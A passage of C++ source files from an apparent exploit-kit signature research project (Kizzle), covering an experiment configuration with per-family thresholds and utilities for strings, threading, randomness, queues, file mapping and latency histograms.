  // blind to versions shipped before the window opened.
  kitgen::StreamConfig stream;
  core::PipelineConfig pipeline;
  av::AnalystConfig analyst;
  double same_day_catch = 0.65;
  // Days the pipeline runs before metrics collection starts (the paper's
  // Kizzle was already operating when the August window opened; without
  // warm-up, day one pays the same-day deployment latency for every kit).
  int warmup_days = 1;
  // Family-specific labeling thresholds (§III.B). RIG's is lowest: its
  // short, URL-heavy body churns ~50% day over day (Fig 11d).
  double threshold_nuclear = 0.68;
  double threshold_sweet_orange = 0.55;
  double threshold_angler = 0.70;
  double threshold_rig = 0.40;
  std::uint64_t seed = 0x5EEDC0DE;
};

struct FamilyDay {
  std::size_t total = 0;       // malicious samples of this family
  std::size_t kizzle_fn = 0;
  std::size_t av_fn = 0;
  std::size_t kizzle_fp = 0;   // benign samples flagged by this family's sig
  std::size_t av_fp = 0;
  double similarity = -1.0;    // Fig 11: winnow overlap vs all prior days
  std::size_t sig_length = 0;  // Fig 12: latest Kizzle signature length
};

struct DayMetrics {
  int day = 0;
  std::size_t n_benign = 0;
  std::size_t n_malicious = 0;
  std::size_t kizzle_fp = 0;
  std::size_t kizzle_fn = 0;
  std::size_t av_fp = 0;
  std::size_t av_fn = 0;
  FamilyDay family[kitgen::kNumFamilies];
  std::size_t clusters = 0;
  std::size_t noise_samples = 0;
  double pipeline_seconds = 0.0;

  double kizzle_fp_rate() const;
  double kizzle_fn_rate() const;
  double av_fp_rate() const;
  double av_fn_rate() const;
};

struct FamilyTotals {
  std::size_t ground_truth = 0;
  std::size_t kizzle_fp = 0;
  std::size_t kizzle_fn = 0;
  std::size_t av_fp = 0;
  std::size_t av_fn = 0;
};

struct ExperimentResult {
  std::vector<DayMetrics> days;
  FamilyTotals totals[kitgen::kNumFamilies];
  std::size_t total_benign = 0;
  std::size_t total_malicious = 0;
  std::vector<core::DeployedSignature> kizzle_signatures;
  std::vector<av::AvRelease> av_releases;

  FamilyTotals sum() const;
};

class MonthlyExperiment {
 public:
  explicit MonthlyExperiment(ExperimentConfig cfg = {});

  // Optional progress callback, invoked after each simulated day.
  std::function<void(const DayMetrics&)> on_day;

  ExperimentResult run();

 private:
  ExperimentConfig cfg_;
};

// Labeling threshold for a family under this config.
double family_threshold(const ExperimentConfig& cfg, kitgen::KitFamily f);

}  // namespace kizzle::eval
