#include "support/strings.h"

#include <cctype>
#include <cstdio>
#include <stdexcept>

namespace kizzle {

std::vector<std::string> split(std::string_view s, std::string_view delim) {
  if (delim.empty()) throw std::invalid_argument("split: empty delimiter");
  std::vector<std::string> out;
  std::size_t pos = 0;
  for (;;) {
    const std::size_t hit = s.find(delim, pos);
    if (hit == std::string_view::npos) {
      out.emplace_back(s.substr(pos));
      return out;
    }
    out.emplace_back(s.substr(pos, hit - pos));
    pos = hit + delim.size();
  }
}

std::string join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (std::size_t i = 0; i < parts.size(); ++i) {
    if (i) out.append(sep);
    out.append(parts[i]);
  }
  return out;
}

std::string replace_all(std::string_view s, std::string_view from,
                        std::string_view to) {
  if (from.empty()) throw std::invalid_argument("replace_all: empty pattern");
  std::string out;
  std::size_t pos = 0;
  for (;;) {
    const std::size_t hit = s.find(from, pos);
    if (hit == std::string_view::npos) {
      out.append(s.substr(pos));
      return out;
    }
    out.append(s.substr(pos, hit - pos));
    out.append(to);
    pos = hit + from.size();
  }
}

bool starts_with(std::string_view s, std::string_view prefix) {
  return s.size() >= prefix.size() && s.substr(0, prefix.size()) == prefix;
}

bool ends_with(std::string_view s, std::string_view suffix) {
  return s.size() >= suffix.size() &&
         s.substr(s.size() - suffix.size()) == suffix;
}

std::string_view trim(std::string_view s) {
  const char* ws = " \t\r\n\f\v";
  const std::size_t b = s.find_first_not_of(ws);
  if (b == std::string_view::npos) return {};
  const std::size_t e = s.find_last_not_of(ws);
  return s.substr(b, e - b + 1);
}

bool all_digits(std::string_view s) {
  if (s.empty()) return false;
  for (char c : s) {
    if (c < '0' || c > '9') return false;
  }
  return true;
}

bool iequals(std::string_view a, std::string_view b) {
  if (a.size() != b.size()) return false;
  for (std::size_t i = 0; i < a.size(); ++i) {
    if (std::tolower(static_cast<unsigned char>(a[i])) !=
        std::tolower(static_cast<unsigned char>(b[i]))) {
      return false;
    }
  }
  return true;
}

std::string to_lower(std::string_view s) {
  std::string out(s);
  for (char& c : out) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return out;
}

std::string format_double(double v, int precision) {
  char buf[64];
  std::snprintf(buf, sizeof(buf), "%.*f", precision, v);
  return buf;
}

std::string format_percent(double fraction, int precision) {
  return format_double(fraction * 100.0, precision) + "%";
}

}  // namespace kizzle
