// Bounded multi-producer/multi-consumer queue with edge backpressure.
//
// The scan service (serve/server.h) sits between unbounded request
// arrival and a fixed set of workers; the queue between them is where an
// overload either becomes bounded, typed rejection or an unbounded memory
// and latency balloon. This queue picks the former by construction:
//
//   - fixed capacity, allocated once; steady-state push/pop never touches
//     the heap (the ring slots move items in and out),
//   - try_push() never blocks: a full (or closed) queue returns false and
//     the caller sheds the request at the edge with a typed status,
//   - pop_batch() hands a consumer up to `max` items in one critical
//     section, which is what amortizes queue synchronization across a
//     whole scan batch,
//   - close() wakes every blocked consumer; producers fail fast, consumers
//     drain what was accepted before close (clean shutdown loses nothing
//     that was admitted).
//
// Plain mutex + condition variable on purpose: the consumers do scan work
// measured in microseconds-to-milliseconds per item, so queue overhead is
// noise, and a lock-based ring is straightforwardly correct under TSan.
// T must be default-constructible and movable.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <mutex>
#include <utility>
#include <vector>

namespace kizzle::support {

template <typename T>
class BoundedMpmcQueue {
 public:
  explicit BoundedMpmcQueue(std::size_t capacity)
      : ring_(capacity == 0 ? 1 : capacity) {}

  BoundedMpmcQueue(const BoundedMpmcQueue&) = delete;
  BoundedMpmcQueue& operator=(const BoundedMpmcQueue&) = delete;

  std::size_t capacity() const { return ring_.size(); }

  std::size_t size() const {
    std::lock_guard<std::mutex> lock(mu_);
    return count_;
  }

  bool closed() const {
    std::lock_guard<std::mutex> lock(mu_);
    return closed_;
  }

  // Non-blocking admit: false when the queue is full or closed — the
  // caller owns the shed decision (and the item, which is not consumed).
  bool try_push(T& item) {
    {
      std::lock_guard<std::mutex> lock(mu_);
      if (closed_ || count_ == ring_.size()) return false;
      ring_[(head_ + count_) % ring_.size()] = std::move(item);
      ++count_;
    }
    cv_.notify_one();
    return true;
  }
  bool try_push(T&& item) { return try_push(item); }

  // Blocks until an item is available or the queue is closed AND drained.
  // Returns false only in the latter case.
  bool pop(T& out) {
    std::unique_lock<std::mutex> lock(mu_);
    cv_.wait(lock, [this] { return count_ > 0 || closed_; });
    if (count_ == 0) return false;
    out = take_locked();
    return true;
  }

  // Blocks like pop(), then moves up to `max` items into `out` (appended;
  // existing contents are cleared by the caller if unwanted). Returns the
  // number taken — 0 only when closed and drained. One wait, one critical
  // section, whole batch: consumers pay the lock once per batch.
  std::size_t pop_batch(std::vector<T>& out, std::size_t max) {
    std::unique_lock<std::mutex> lock(mu_);
    cv_.wait(lock, [this] { return count_ > 0 || closed_; });
    std::size_t taken = 0;
    while (count_ > 0 && taken < max) {
      out.push_back(take_locked());
      ++taken;
    }
    return taken;
  }

  // Stops admission and wakes every blocked consumer. Items already
  // admitted remain poppable: close-then-drain is the shutdown path.
  void close() {
    {
      std::lock_guard<std::mutex> lock(mu_);
      closed_ = true;
    }
    cv_.notify_all();
  }

 private:
  T take_locked() {
    T item = std::move(ring_[head_]);
    head_ = (head_ + 1) % ring_.size();
    --count_;
    return item;
  }

  mutable std::mutex mu_;
  std::condition_variable cv_;
  std::vector<T> ring_;
  std::size_t head_ = 0;
  std::size_t count_ = 0;
  bool closed_ = false;
};

}  // namespace kizzle::support
