// Deterministic pseudo-random number generation for the whole system.
//
// Everything in this repository that needs randomness (corpus generation,
// sample partitioning, identifier randomization, ...) goes through Rng so
// that experiments are exactly reproducible from a single 64-bit seed.
// The generator is xoshiro256** (Blackman & Vigna), which is fast, has a
// 256-bit state and passes BigCrush; we avoid std::mt19937 because its
// seeding across standard libraries is not bit-stable.
#pragma once

#include <cstdint>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

namespace kizzle {

class Rng {
 public:
  // Seeds the 256-bit state from a 64-bit seed via splitmix64, as
  // recommended by the xoshiro authors.
  explicit Rng(std::uint64_t seed = 0x9E3779B97F4A7C15ull);

  // Uniform 64-bit value.
  std::uint64_t next();

  // Uniform integer in [lo, hi] (inclusive). Throws std::invalid_argument
  // if lo > hi.
  std::uint64_t uniform(std::uint64_t lo, std::uint64_t hi);

  // Uniform integer in [0, n). Throws std::invalid_argument if n == 0.
  std::size_t index(std::size_t n);

  // Uniform double in [0, 1).
  double real();

  // True with probability p (clamped to [0,1]).
  bool chance(double p);

  // Uniform element of a non-empty vector. Throws std::invalid_argument on
  // an empty vector.
  template <typename T>
  const T& pick(const std::vector<T>& v) {
    if (v.empty()) throw std::invalid_argument("Rng::pick: empty vector");
    return v[index(v.size())];
  }

  // Fisher-Yates shuffle.
  template <typename T>
  void shuffle(std::vector<T>& v) {
    if (v.size() < 2) return;
    for (std::size_t i = v.size() - 1; i > 0; --i) {
      std::swap(v[i], v[index(i + 1)]);
    }
  }

  // Random string of length n over the given alphabet. The alphabet must be
  // non-empty.
  std::string string_over(std::string_view alphabet, std::size_t n);

  // Random JavaScript-ish identifier: [A-Za-z_][A-Za-z0-9_]{len-1}. len >= 1.
  std::string identifier(std::size_t len);

  // Random identifier with length drawn uniformly from [min_len, max_len].
  std::string identifier(std::size_t min_len, std::size_t max_len);

  // Creates an independent child generator. Useful for giving each
  // subsystem (or each simulated day) its own stream while keeping global
  // determinism.
  Rng fork();

 private:
  std::uint64_t s_[4];
};

}  // namespace kizzle
