#include "support/thread_pool.h"

#include <algorithm>

namespace kizzle {

ThreadPool::ThreadPool(std::size_t n_threads) {
  if (n_threads == 0) {
    n_threads = std::max(1u, std::thread::hardware_concurrency());
  }
  workers_.reserve(n_threads);
  for (std::size_t i = 0; i < n_threads; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    stop_ = true;
  }
  cv_task_.notify_all();
  for (auto& w : workers_) w.join();
}

void ThreadPool::submit(std::function<void()> task) {
  {
    std::lock_guard<std::mutex> lock(mu_);
    queue_.push(std::move(task));
  }
  cv_task_.notify_one();
}

void ThreadPool::wait() {
  std::unique_lock<std::mutex> lock(mu_);
  cv_done_.wait(lock, [this] { return queue_.empty() && active_ == 0; });
  if (first_error_) {
    std::exception_ptr e = first_error_;
    first_error_ = nullptr;
    std::rethrow_exception(e);
  }
}

void ThreadPool::parallel_for(std::size_t n,
                              const std::function<void(std::size_t)>& fn) {
  for (std::size_t i = 0; i < n; ++i) {
    submit([&fn, i] { fn(i); });
  }
  wait();
}

std::size_t ThreadPool::parallel_ranges(
    std::size_t n, std::size_t max_tasks,
    const std::function<void(std::size_t, std::size_t, std::size_t)>& fn) {
  if (n == 0) return 0;
  const std::size_t tasks = std::min(n, std::max<std::size_t>(1, max_tasks));
  const std::size_t base = n / tasks;
  const std::size_t extra = n % tasks;  // first `extra` ranges get one more
  std::size_t begin = 0;
  for (std::size_t t = 0; t < tasks; ++t) {
    const std::size_t end = begin + base + (t < extra ? 1 : 0);
    submit([&fn, t, begin, end] { fn(t, begin, end); });
    begin = end;
  }
  wait();
  return tasks;
}

void ThreadPool::worker_loop() {
  for (;;) {
    std::function<void()> task;
    {
      std::unique_lock<std::mutex> lock(mu_);
      cv_task_.wait(lock, [this] { return stop_ || !queue_.empty(); });
      if (stop_ && queue_.empty()) return;
      task = std::move(queue_.front());
      queue_.pop();
      ++active_;
    }
    try {
      task();
    } catch (...) {
      std::lock_guard<std::mutex> lock(mu_);
      if (!first_error_) first_error_ = std::current_exception();
    }
    {
      std::lock_guard<std::mutex> lock(mu_);
      --active_;
      if (queue_.empty() && active_ == 0) cv_done_.notify_all();
    }
  }
}

}  // namespace kizzle
