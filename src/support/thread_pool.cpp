#include "support/thread_pool.h"

#include <algorithm>

namespace kizzle {

ThreadPool::ThreadPool(std::size_t n_threads) {
  if (n_threads == 0) {
    n_threads = std::max(1u, std::thread::hardware_concurrency());
  }
  workers_.reserve(n_threads);
  for (std::size_t i = 0; i < n_threads; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

ThreadPool::~ThreadPool() {
  {
    std::lock_guard<std::mutex> lock(mu_);
    stop_ = true;
  }
  cv_task_.notify_all();
  for (auto& w : workers_) w.join();
}

void ThreadPool::submit(std::function<void()> task) {
  {
    std::lock_guard<std::mutex> lock(mu_);
    queue_.push(std::move(task));
  }
  cv_task_.notify_one();
}

void ThreadPool::wait() {
  std::unique_lock<std::mutex> lock(mu_);
  cv_done_.wait(lock, [this] { return queue_.empty() && active_ == 0; });
  if (first_error_) {
    std::exception_ptr e = first_error_;
    first_error_ = nullptr;
    std::rethrow_exception(e);
  }
}

namespace {

// Per-batch completion state: each parallel_for/parallel_ranges call gets
// its own latch, so two batches interleaved on one pool cannot steal each
// other's completion signal or first-thrown exception (the old pool-global
// wait() made a shared pool a silent correctness hazard for batch scans).
struct BatchLatch {
  std::mutex mu;
  std::condition_variable cv;
  std::size_t remaining = 0;
  std::exception_ptr error;

  void finish_one(std::exception_ptr err) {
    std::lock_guard<std::mutex> lock(mu);
    if (err && !error) error = std::move(err);
    if (--remaining == 0) cv.notify_all();
  }

  void wait_all() {
    std::unique_lock<std::mutex> lock(mu);
    cv.wait(lock, [this] { return remaining == 0; });
    if (error) std::rethrow_exception(error);
  }
};

}  // namespace

void ThreadPool::parallel_for(std::size_t n,
                              const std::function<void(std::size_t)>& fn) {
  if (n == 0) return;
  auto latch = std::make_shared<BatchLatch>();
  latch->remaining = n;
  for (std::size_t i = 0; i < n; ++i) {
    submit([&fn, i, latch] {
      std::exception_ptr err;
      try {
        fn(i);
      } catch (...) {
        err = std::current_exception();
      }
      latch->finish_one(std::move(err));
    });
  }
  latch->wait_all();
}

std::size_t ThreadPool::parallel_ranges(
    std::size_t n, std::size_t max_tasks,
    const std::function<void(std::size_t, std::size_t, std::size_t)>& fn) {
  if (n == 0) return 0;
  const std::size_t tasks = std::min(n, std::max<std::size_t>(1, max_tasks));
  const std::size_t base = n / tasks;
  const std::size_t extra = n % tasks;  // first `extra` ranges get one more
  auto latch = std::make_shared<BatchLatch>();
  latch->remaining = tasks;
  std::size_t begin = 0;
  for (std::size_t t = 0; t < tasks; ++t) {
    const std::size_t end = begin + base + (t < extra ? 1 : 0);
    submit([&fn, t, begin, end, latch] {
      std::exception_ptr err;
      try {
        fn(t, begin, end);
      } catch (...) {
        err = std::current_exception();
      }
      latch->finish_one(std::move(err));
    });
    begin = end;
  }
  latch->wait_all();
  return tasks;
}

void ThreadPool::worker_loop() {
  for (;;) {
    std::function<void()> task;
    {
      std::unique_lock<std::mutex> lock(mu_);
      cv_task_.wait(lock, [this] { return stop_ || !queue_.empty(); });
      if (stop_ && queue_.empty()) return;
      task = std::move(queue_.front());
      queue_.pop();
      ++active_;
    }
    try {
      task();
    } catch (...) {
      std::lock_guard<std::mutex> lock(mu_);
      if (!first_error_) first_error_ = std::current_exception();
    }
    {
      std::lock_guard<std::mutex> lock(mu_);
      --active_;
      if (queue_.empty() && active_ == 0) cv_done_.notify_all();
    }
  }
}

}  // namespace kizzle
