#include "support/rng.h"

namespace kizzle {

namespace {

std::uint64_t splitmix64(std::uint64_t& x) {
  x += 0x9E3779B97F4A7C15ull;
  std::uint64_t z = x;
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}

std::uint64_t rotl(std::uint64_t x, int k) {
  return (x << k) | (x >> (64 - k));
}

}  // namespace

Rng::Rng(std::uint64_t seed) {
  std::uint64_t sm = seed;
  for (auto& s : s_) s = splitmix64(sm);
  // All-zero state is the one invalid state for xoshiro; splitmix64 cannot
  // produce four zero outputs in a row, but guard anyway.
  if ((s_[0] | s_[1] | s_[2] | s_[3]) == 0) s_[0] = 1;
}

std::uint64_t Rng::next() {
  const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
  const std::uint64_t t = s_[1] << 17;
  s_[2] ^= s_[0];
  s_[3] ^= s_[1];
  s_[1] ^= s_[2];
  s_[0] ^= s_[3];
  s_[2] ^= t;
  s_[3] = rotl(s_[3], 45);
  return result;
}

std::uint64_t Rng::uniform(std::uint64_t lo, std::uint64_t hi) {
  if (lo > hi) throw std::invalid_argument("Rng::uniform: lo > hi");
  const std::uint64_t span = hi - lo + 1;
  if (span == 0) return next();  // full 2^64 range
  // Rejection sampling to avoid modulo bias.
  const std::uint64_t limit = UINT64_MAX - UINT64_MAX % span;
  std::uint64_t r;
  do {
    r = next();
  } while (r >= limit);
  return lo + r % span;
}

std::size_t Rng::index(std::size_t n) {
  if (n == 0) throw std::invalid_argument("Rng::index: n == 0");
  return static_cast<std::size_t>(uniform(0, n - 1));
}

double Rng::real() {
  // 53 random bits into [0, 1).
  return static_cast<double>(next() >> 11) * 0x1.0p-53;
}

bool Rng::chance(double p) {
  if (p <= 0.0) return false;
  if (p >= 1.0) return true;
  return real() < p;
}

std::string Rng::string_over(std::string_view alphabet, std::size_t n) {
  if (alphabet.empty()) {
    throw std::invalid_argument("Rng::string_over: empty alphabet");
  }
  std::string out;
  out.reserve(n);
  for (std::size_t i = 0; i < n; ++i) {
    out.push_back(alphabet[index(alphabet.size())]);
  }
  return out;
}

std::string Rng::identifier(std::size_t len) {
  if (len == 0) throw std::invalid_argument("Rng::identifier: len == 0");
  static constexpr std::string_view kFirst =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_";
  static constexpr std::string_view kRest =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_";
  std::string out;
  out.reserve(len);
  out.push_back(kFirst[index(kFirst.size())]);
  for (std::size_t i = 1; i < len; ++i) {
    out.push_back(kRest[index(kRest.size())]);
  }
  return out;
}

std::string Rng::identifier(std::size_t min_len, std::size_t max_len) {
  if (min_len == 0 || min_len > max_len) {
    throw std::invalid_argument("Rng::identifier: bad length range");
  }
  return identifier(static_cast<std::size_t>(uniform(min_len, max_len)));
}

Rng Rng::fork() {
  Rng child(0);
  for (auto& s : child.s_) s = next();
  if ((child.s_[0] | child.s_[1] | child.s_[2] | child.s_[3]) == 0) {
    child.s_[0] = 1;
  }
  return child;
}

}  // namespace kizzle
