// Typed failure taxonomy for every input-facing surface.
//
// The scanner sits directly in the blast radius of attacker-controlled
// input: signature artifacts arrive over a deployment channel, scripts and
// files arrive from the network, and a worker that dies (or hangs) on one
// hostile byte stream is a worker that stops serving everyone else. Ad-hoc
// `std::runtime_error` throws made failures indistinguishable: a caller
// could not tell "this artifact is corrupt" (re-fetch it) from "this
// artifact declares a 2 GiB table" (refuse it and alert) from a genuine
// programming bug (crash loudly). Every loader and parser in the ingest
// path now throws exactly one of the types below — and nothing else — on
// malformed input:
//
//   Error           the common base. `catch (const kizzle::Error&)` is the
//                   "any clean typed rejection" handler the fuzz harnesses
//                   and channel wrappers use. Derives from
//                   std::runtime_error, so pre-taxonomy call sites keep
//                   working unchanged.
//   ArtifactError   a binary release artifact (`.kpf` bundle, serialized
//                   prefilter) is malformed: bad magic/version/endianness,
//                   truncation, checksum mismatch, cross-field
//                   inconsistency. The artifact itself is bad; retrying
//                   the same bytes cannot succeed.
//   InputError      a text input (signature database lines, embedded
//                   patterns) does not parse. Same retry semantics as
//                   ArtifactError, but the offending input is
//                   human-readable and messages carry line + byte offsets.
//   ResourceError   the input is well-formed *syntax* but declares sizes
//                   past the loader's allocation caps (table element
//                   counts, line lengths, signature counts). Kept distinct
//                   from the malformed cases because the right operator
//                   response differs: a cap hit on legitimate growth means
//                   raising the cap, a cap hit on hostile input means the
//                   guard did its job.
//
// Scan-time resource exhaustion (deadlines, VM step budgets, input
// truncation) deliberately does NOT throw: scans degrade gracefully and
// report a structured engine::ScanOutcome (engine/limits.h) instead —
// budget breaches on the hot path are expected events, not failures.
#pragma once

#include <stdexcept>
#include <string>

namespace kizzle {

class Error : public std::runtime_error {
 public:
  explicit Error(const std::string& what) : std::runtime_error(what) {}
};

class ArtifactError : public Error {
 public:
  explicit ArtifactError(const std::string& what) : Error(what) {}
};

class InputError : public Error {
 public:
  explicit InputError(const std::string& what) : Error(what) {}
};

class ResourceError : public Error {
 public:
  explicit ResourceError(const std::string& what) : Error(what) {}
};

}  // namespace kizzle
