#include "support/interner.h"

#include <stdexcept>

namespace kizzle {

Interner::Id Interner::intern(std::string_view s) {
  auto it = map_.find(std::string(s));
  if (it != map_.end()) return it->second;
  const Id id = static_cast<Id>(strings_.size());
  if (id == kNone) throw std::length_error("Interner: id space exhausted");
  strings_.emplace_back(s);
  map_.emplace(strings_.back(), id);
  return id;
}

Interner::Id Interner::find(std::string_view s) const {
  auto it = map_.find(std::string(s));
  return it == map_.end() ? kNone : it->second;
}

const std::string& Interner::text(Id id) const {
  if (id >= strings_.size()) {
    throw std::out_of_range("Interner::text: unknown id");
  }
  return strings_[id];
}

}  // namespace kizzle
