#include "support/mapped_file.h"

#include <cerrno>
#include <cstring>
#include <utility>

#include "support/errors.h"

#if defined(__unix__) || defined(__APPLE__)
#define KIZZLE_HAVE_MMAP 1
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>
#else
#define KIZZLE_HAVE_MMAP 0
#include <fstream>
#endif

namespace kizzle::support {

MappedFile::~MappedFile() {
#if KIZZLE_HAVE_MMAP
  if (map_ != nullptr) ::munmap(map_, map_len_);
#endif
}

MappedFile::MappedFile(MappedFile&& other) noexcept
    : map_(std::exchange(other.map_, nullptr)),
      map_len_(std::exchange(other.map_len_, 0)),
      fallback_(std::move(other.fallback_)),
      data_(std::exchange(other.data_, nullptr)),
      size_(std::exchange(other.size_, 0)) {}

MappedFile& MappedFile::operator=(MappedFile&& other) noexcept {
  if (this != &other) {
#if KIZZLE_HAVE_MMAP
    if (map_ != nullptr) ::munmap(map_, map_len_);
#endif
    map_ = std::exchange(other.map_, nullptr);
    map_len_ = std::exchange(other.map_len_, 0);
    fallback_ = std::move(other.fallback_);
    data_ = std::exchange(other.data_, nullptr);
    size_ = std::exchange(other.size_, 0);
  }
  return *this;
}

#if KIZZLE_HAVE_MMAP

MappedFile MappedFile::open(const std::string& path) {
  const int fd = ::open(path.c_str(), O_RDONLY);  // NOLINT(cppcoreguidelines-pro-type-vararg)
  if (fd < 0) {
    throw InputError("MappedFile: cannot open " + path + ": " +
                     std::strerror(errno));
  }
  struct stat st {};
  if (::fstat(fd, &st) != 0 || !S_ISREG(st.st_mode)) {
    ::close(fd);
    throw InputError("MappedFile: not a readable regular file: " + path);
  }
  MappedFile f;
  const auto len = static_cast<std::size_t>(st.st_size);
  if (len == 0) {
    ::close(fd);
    return f;  // empty file: empty span, nothing to map
  }
  void* base = ::mmap(nullptr, len, PROT_READ, MAP_PRIVATE, fd, 0);
  if (base != MAP_FAILED) {
    ::close(fd);
    f.map_ = base;
    f.map_len_ = len;
    f.data_ = static_cast<const std::byte*>(base);
    f.size_ = len;
    return f;
  }
  // mmap refused (some filesystems do): one plain read, same bytes.
  f.fallback_.resize(len);
  std::size_t got = 0;
  while (got < len) {
    const ::ssize_t n = ::read(fd, f.fallback_.data() + got, len - got);
    if (n <= 0) {
      ::close(fd);
      throw InputError("MappedFile: short read on " + path);
    }
    got += static_cast<std::size_t>(n);
  }
  ::close(fd);
  f.data_ = f.fallback_.data();
  f.size_ = len;
  return f;
}

#else  // !KIZZLE_HAVE_MMAP

MappedFile MappedFile::open(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw InputError("MappedFile: cannot open " + path);
  MappedFile f;
  in.seekg(0, std::ios::end);
  const auto len = static_cast<std::size_t>(in.tellg());
  in.seekg(0, std::ios::beg);
  f.fallback_.resize(len);
  if (len > 0 &&
      !in.read(reinterpret_cast<char*>(f.fallback_.data()),
               static_cast<std::streamsize>(len))) {
    throw InputError("MappedFile: short read on " + path);
  }
  f.data_ = f.fallback_.data();
  f.size_ = len;
  return f;
}

#endif  // KIZZLE_HAVE_MMAP

}  // namespace kizzle::support
