// A small fixed-size thread pool with a parallel-for helper.
//
// Used by the partitioned clustering pipeline to simulate the paper's
// 50-machine map step on a single host, and by the batch scan paths
// (Scanner::scan_batch, CdnFilter). Tasks must not throw across the pool
// boundary; exceptions are captured and rethrown to the caller.
//
// parallel_for/parallel_ranges carry a per-call completion latch: each
// batch waits only on its own tasks and observes only its own first
// exception, so any number of concurrent batches may share one pool
// without stealing each other's completion. The pool-global wait() remains
// for bare submit() users and must not be mixed with concurrent batches it
// does not own.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <exception>
#include <functional>
#include <mutex>
#include <queue>
#include <thread>
#include <vector>

namespace kizzle {

class ThreadPool {
 public:
  // n_threads == 0 means hardware concurrency (at least 1).
  explicit ThreadPool(std::size_t n_threads = 0);
  ~ThreadPool();

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  std::size_t size() const { return workers_.size(); }

  // Enqueues a task.
  void submit(std::function<void()> task);

  // Blocks until all submitted tasks have finished. If any task threw, the
  // first captured exception is rethrown here. Pool-global: only for
  // callers that own every outstanding submit()ted task.
  void wait();

  // Runs fn(i) for i in [0, n) across the pool and waits for completion on
  // a latch private to this call: concurrent batches on one pool are safe,
  // and each caller sees (only) its own batch's first-thrown exception.
  void parallel_for(std::size_t n, const std::function<void(std::size_t)>& fn);

  // Splits [0, n) into at most max_tasks contiguous ranges and runs
  // fn(task, begin, end) for each across the pool, waiting for completion
  // (per-call latch, as parallel_for). `task` is a dense index in
  // [0, actual_tasks) so callers can keep per-task scratch (partial edge
  // lists, stat counters) without locking; actual_tasks == min(n,
  // max_tasks) is returned. Used by the clustering neighbor-graph build.
  std::size_t parallel_ranges(
      std::size_t n, std::size_t max_tasks,
      const std::function<void(std::size_t, std::size_t, std::size_t)>& fn);

 private:
  void worker_loop();

  std::vector<std::thread> workers_;
  std::queue<std::function<void()>> queue_;
  std::mutex mu_;
  std::condition_variable cv_task_;
  std::condition_variable cv_done_;
  std::size_t active_ = 0;
  bool stop_ = false;
  std::exception_ptr first_error_;
};

}  // namespace kizzle
