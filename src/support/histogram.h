// HDR-style log-linear latency histogram.
//
// Tail latency is the serving metric that averages hide: a p999 that
// doubles under load is invisible in a mean over a million requests. The
// standard tool is a High-Dynamic-Range histogram (Gil Tene's
// HdrHistogram): bucket boundaries grow geometrically so the structure
// covers nanoseconds to minutes in a few KiB, while each octave is split
// into 2^kSubBits linear sub-buckets so the relative quantization error is
// bounded (< 2^-kSubBits ≈ 1.6%) at every magnitude.
//
// Index scheme for a value v (64-bit, typically nanoseconds):
//   v < 2^kSubBits             exact: index = v
//   otherwise                  drop all but the top kSubBits bits:
//                              shift = msb(v) - (kSubBits - 1),
//                              index = shift * 2^(kSubBits-1) + (v >> shift)
// which is contiguous and monotone, so quantiles are a prefix walk.
// Reported quantile values are each bucket's inclusive upper bound —
// conservative for latency (never under-reports a percentile).
//
// record() is wait-free on the calling thread's own histogram; the
// intended concurrent pattern is one histogram per worker merged at
// report time (merge() is bucket-wise addition), which is how the load
// harness (serve/loadgen.h) aggregates per-client recordings.
#pragma once

#include <array>
#include <cstddef>
#include <cstdint>

namespace kizzle::support {

class LatencyHistogram {
 public:
  // 64 linear sub-buckets per octave: worst-case relative error 1/64.
  static constexpr unsigned kSubBits = 6;
  static constexpr std::uint64_t kSub = 1ull << kSubBits;
  static constexpr std::size_t kSubHalf = 1ull << (kSubBits - 1);
  // Largest shift is 64-kSubBits; one trailing octave of headroom.
  static constexpr std::size_t kBucketCount = (64 - kSubBits + 2) * kSubHalf;

  void record(std::uint64_t value) { record(value, 1); }
  void record(std::uint64_t value, std::uint64_t times);

  // Bucket-wise addition of another histogram (plus min/max/sum/count).
  void merge(const LatencyHistogram& other);

  std::uint64_t count() const { return count_; }
  std::uint64_t min() const { return count_ == 0 ? 0 : min_; }
  std::uint64_t max() const { return max_; }
  double mean() const;

  // Value at quantile q in [0, 1]: the inclusive upper bound of the bucket
  // holding the ceil(q * count)-th smallest recording. 0 when empty.
  // percentile(0.5) / (0.99) / (0.999) are the p50/p99/p999 of a latency
  // report.
  std::uint64_t percentile(double q) const;

  void clear();

 private:
  static std::size_t index_of(std::uint64_t v);
  static std::uint64_t bucket_upper(std::size_t index);

  std::array<std::uint64_t, kBucketCount> counts_{};
  std::uint64_t count_ = 0;
  std::uint64_t min_ = ~0ull;
  std::uint64_t max_ = 0;
  double sum_ = 0.0;
};

}  // namespace kizzle::support
