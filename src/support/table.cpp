#include "support/table.h"

#include <algorithm>
#include <ostream>
#include <sstream>
#include <stdexcept>

namespace kizzle {

Table::Table(std::vector<std::string> header) : header_(std::move(header)) {
  if (header_.empty()) throw std::invalid_argument("Table: empty header");
}

void Table::add_row(std::vector<std::string> row) {
  if (row.size() != header_.size()) {
    throw std::invalid_argument("Table::add_row: wrong number of cells");
  }
  rows_.push_back(std::move(row));
}

std::string Table::to_string() const {
  std::vector<std::size_t> width(header_.size());
  for (std::size_t c = 0; c < header_.size(); ++c) {
    width[c] = header_[c].size();
  }
  for (const auto& row : rows_) {
    for (std::size_t c = 0; c < row.size(); ++c) {
      width[c] = std::max(width[c], row[c].size());
    }
  }
  std::ostringstream os;
  auto emit = [&](const std::vector<std::string>& cells) {
